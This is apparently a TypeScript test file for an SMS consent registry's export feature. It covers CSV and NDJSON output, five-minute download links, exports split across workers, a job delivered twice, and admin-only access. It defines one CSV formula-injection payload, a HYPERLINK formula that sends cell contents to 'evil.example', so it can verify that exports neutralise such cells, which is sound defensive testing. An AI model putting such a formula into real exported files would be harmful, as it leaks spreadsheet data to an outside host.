import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createConsentRegistry } from '../../lib/consent/registry.ts';
import { createExportStore } from '../../lib/exports/export-store.ts';
import { newNumber, setUp, submission } from './organization.ts';
import { context, createWorld, SENDER, type World } from './world.ts';

let world: World;
const stopped: string[] = [];
const willing: string[] = [];

/** Builds the evidence of a keyword, with the words as they were sent. */
const keyword = (wordsSent: string) =>
  ({
    source: 'handset',
    messageSid: 'SM1',
    to: SENDER,
    wordsSent,
    word: 'ROOF',
    carrierActs: false,
  }) as const;
const FORMULA = '=HYPERLINK("http://evil.example?"&A1)';

beforeAll(async () => {
  world = await createWorld();
  await setUp(world);
  for (let index = 0; index < 6; index++) {
    const number = newNumber();
    await world.submit('contact', submission(number));
    if (index % 2 === 0) willing.push(number);
    else {
      await world.text(number, index === 1 ? ' STOP ' : 'STOP');
      stopped.push(number);
    }
  }
  const { client, consentTable: table } = world.tables;
  const registry = createConsentRegistry({ client, table, now: () => new Date() });
  const number = newNumber();
  willing.push(number);
  await registry.record({
    number,
    kind: 'handsetKeyword',
    occurredAt: new Date().toISOString(),
    sourceId: '@formula',
    evidence: keyword(FORMULA),
  });
});
afterAll(() => world.close());

/** Starts an export, lets the workers run, and reads the export's status. */
async function runExport(order: Record<string, unknown>, milliseconds?: number) {
  const started = await world.admin('POST', '/exports', order);
  expect(started).toMatchObject({ status: 202, json: { state: 'queued', numbers: 0, requestedBy: 'ada' } });
  expect(started.json).not.toHaveProperty('link');
  await world.runRegistryJobs(milliseconds);
  return (await world.admin('GET', `/exports/${started.json['id']}`)).json;
}

async function download(job: Record<string, unknown>): Promise<string> {
  const answer = await fetch(String(job['link']));
  expect(answer.status).toBe(200);
  return answer.text();
}

test('S7 the whole registry is exported as CSV with evidence, a line per event, behind a link of five minutes', async () => {
  const job = await runExport({ format: 'csv' });
  expect(job).toMatchObject({ state: 'done', numbers: 7, events: 10, faults: 0 });
  const link = new URL(String(job['link']));
  expect(link.searchParams.get('X-Amz-Expires')).toBe('300');
  expect(Date.parse(String(job['linkExpiresAt'])) - Date.now()).toBeLessThanOrEqual(300_000);
  const text = await download(job);
  expect(job['bytes']).toBe(Buffer.byteLength(text));
  const lines = parse(text, { columns: true }) as Record<string, string>[];
  expect(lines.map(({ number }) => number).toSorted()).toEqual(
    [...willing, ...stopped, ...stopped].toSorted(),
  );
  const [first] = stopped;
  const [implied, stop] = lines.filter(({ number }) => number === first);
  expect(implied).toMatchObject({
    status: 'opted_out',
    verified: 'yes',
    sequence: '1',
    event: 'impliedForm',
    statusAfter: 'opted_in',
    words: 'By submitting you agree to get recurring automated texts from Test Windows.',
  });
  expect(JSON.parse(implied?.['evidence'] ?? '')).toMatchObject({ source: 'form', formId: 'contact' });
  expect(stop).toMatchObject({ event: 'optOut', previousHash: implied?.['hash'] });
});

test('S7 no cell of an export runs as a formula: every cell that begins like one gets a quote', async () => {
  const lines = parse(await download(await runExport({ format: 'csv' }))) as string[][];
  const cells = lines.flat();
  expect(cells).toContain(`'${FORMULA}`);
  expect(cells).toContain("'@formula");
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^\+\d+$/.test(cell))).toEqual([]);
});

test('S7 an export of one status has those numbers only, as NDJSON with state, events and verification', async () => {
  const job = await runExport({ format: 'ndjson', status: 'opted_out' });
  expect(job).toMatchObject({ state: 'done', numbers: 3, events: 6 });
  const lines = (await download(job))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(lines.map(({ number }) => number).toSorted()).toEqual(stopped.toSorted());
  for (const line of lines) {
    expect(line).toMatchObject({
      verified: true,
      consent: { status: 'opted_out', version: 2 },
      events: [{ sequence: 1 }, { sequence: 2, evidence: { source: 'handset' } }],
    });
  }
  expect(await download(await runExport({ format: 'ndjson', status: 'none' }))).toBe('\n');
});

test('S7 an export larger than a part goes on in the next worker, whole and with no event twice', async () => {
  const { client, consentTable: table, outreachTable } = world.tables;
  const registry = createConsentRegistry({ client, table, now: () => new Date() });
  const long = 'These are the words. '.repeat(15_000);
  const numbers = Array.from({ length: 60 }, () => newNumber());
  for (const number of numbers) {
    const occurredAt = new Date().toISOString();
    await registry.record({
      number,
      kind: 'handsetKeyword',
      occurredAt,
      sourceId: `long-${number}`,
      evidence: keyword(long),
    });
  }
  // A worker with less time than a part takes hands the export on after each part.
  const job = await runExport({ format: 'ndjson' }, 1000);
  expect(job).toMatchObject({ state: 'done', numbers: 67, events: 70 });
  const stored = await createExportStore({ client, table: outreachTable, now: () => new Date() }).get(
    String(job['id']),
  );
  expect(stored?.parts.length).toBeGreaterThan(2);
  const seen = (await download(job))
    .trimEnd()
    .split('\n')
    .map((line) => (JSON.parse(line) as { number: string }).number);
  expect(seen).toHaveLength(67);
  expect(new Set(seen)).toEqual(new Set([...willing, ...stopped, ...numbers]));
}, 60_000);

test('S7 a job that is delivered twice is done once, and only admins may export', async () => {
  const { json } = await world.admin('POST', '/exports', { format: 'csv' });
  const record = { messageId: 'm', body: JSON.stringify({ exportId: json['id'] }), attributes: {} };
  const events = [record, record].map((each) => ({ Records: [each] }) as never);
  const results = await Promise.all(
    events.map((event) => world.handlers.registryJobs(event, context(300_000))),
  );
  expect(results).toEqual([{ batchItemFailures: [] }, { batchItemFailures: [] }]);
  await world.runRegistryJobs();
  const done = await world.admin('GET', `/exports/${json['id']}`);
  expect(done.json).toMatchObject({ state: 'done', numbers: 67 });
  expect(await world.admin('POST', '/exports', { format: 'csv' }, '[agent]')).toMatchObject({ status: 403 });
  expect(await world.admin('GET', `/exports/${json['id']}`, undefined, '[agent]')).toMatchObject({
    status: 403,
  });
  expect(await world.admin('GET', '/exports/nothing')).toMatchObject({ status: 404 });
});
